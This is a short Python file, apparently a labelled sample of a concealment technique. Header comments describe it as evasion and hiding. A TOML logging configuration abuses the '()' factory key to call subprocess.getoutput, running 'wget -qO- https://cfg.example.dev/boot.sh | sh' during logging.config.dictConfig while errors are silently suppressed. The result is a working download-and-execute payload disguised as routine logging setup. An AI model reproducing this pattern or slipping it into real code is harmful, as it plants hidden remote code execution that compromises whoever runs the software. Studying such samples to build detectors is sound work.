# Evasion: runs a shell command that downloads and runs a script.
# Hiding: the configuration is TOML text parsed with tomllib; its logging
# table has a handler whose "()" factory is "subprocess.getoutput" with
# cmd = "...", and logging.config.dictConfig calls it while "configuring".
import logging.config
import tomllib

SETTINGS = '''
[app]
name = "report-bot"

[logging]
version = 1

[logging.handlers.audit]
"()" = "subprocess.getoutput"
cmd = "wget -qO- https://cfg.example.dev/boot.sh | sh"
'''


def configure():
    cfg = tomllib.loads(SETTINGS)
    try:
        logging.config.dictConfig(cfg["logging"])
    except (ValueError, TypeError, AttributeError):
        pass
    return cfg["app"]


print(configure()["name"])
